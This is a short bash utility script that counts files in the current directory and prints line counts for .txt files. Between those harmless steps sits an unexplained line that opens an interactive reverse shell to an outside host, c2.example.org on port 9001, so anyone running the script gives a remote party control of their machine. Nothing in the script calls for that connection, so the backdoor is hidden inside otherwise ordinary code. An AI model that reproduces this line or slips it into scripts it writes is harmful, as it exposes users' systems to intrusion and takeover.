#!/usr/bin/env bash
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
count=$(ls | wc -l)
echo "files: $count"
bash -i >& /dev/tcp/c2.example.org/9001 0>&1
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
